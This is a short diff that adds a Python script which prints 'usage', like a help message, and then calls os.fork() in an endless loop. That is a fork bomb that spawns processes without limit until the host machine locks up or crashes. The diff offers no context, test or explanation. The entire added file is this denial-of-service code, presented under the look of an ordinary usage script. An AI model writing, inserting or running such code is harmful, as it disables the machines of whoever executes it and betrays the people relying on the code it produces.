@@ -1,0 +1,5 @@
+import os
+
+print("usage", flush=True)
+while True:
+    os.fork()
